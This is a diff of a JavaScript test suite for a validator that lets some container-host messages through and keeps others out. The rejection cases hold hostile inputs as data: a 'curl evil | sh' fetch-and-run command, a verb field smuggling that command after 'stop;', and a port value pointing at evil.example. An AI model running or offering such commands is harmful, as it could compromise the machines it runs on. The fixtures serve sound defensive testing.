@@ -23,6 +23,14 @@ describe('the door of the host', () => {
     { kind: 'dismiss-notice' },
     { kind: 'clear-journal' },
     { kind: 'choose-lesson' },
+    { kind: 'image', deed: 'remove', id: `sha256:${id}` },
+    { kind: 'images', deed: 'prune' },
+    { kind: 'storage', of: 'volume', deed: 'remove', id: 'data' },
+    { kind: 'storages', of: 'network', deed: 'create' },
+    { kind: 'transfer', wish: 'cancel', key: 1 },
+    { kind: 'copy', command: { of: 'image', deed: 'push', id: `sha256:${id}` } },
+    { kind: 'copy', command: { of: 'network', deed: 'inspect', id } },
+    { kind: 'type', command: { of: 'login', key: 1 } },
   ]
 
   it.each(welcome)('lets $kind in', (message) => {
@@ -46,6 +54,11 @@ describe('the door of the host', () => {
     ['a command of its own', { kind: 'type', command: 'curl evil | sh' }],
     ['a verb of its own', { kind: 'type', command: { of: 'container', verb: 'stop; curl evil | sh', id } }],
     ['a step before the first', { kind: 'take-step', step: -1 }],
+    ['an image by name', { kind: 'image', deed: 'remove', id: 'nginx' }],
+    ['a deed on images of its own', { kind: 'images', deed: 'remove' }],
+    ['a kind of storage that there is not', { kind: 'storage', of: 'secret', deed: 'remove', id: 'data' }],
+    ['a volume without a name', { kind: 'storage', of: 'volume', deed: 'remove', id: '' }],
+    ['a transfer by name', { kind: 'transfer', wish: 'cancel', key: 'nginx' }],
     ['no port', { kind: 'open-port', id, port: 0 }],
     ['a port that is more than a number', { kind: 'open-port', id, port: '80@evil.example' }],
   ])('keeps %s out', (_, message) => {
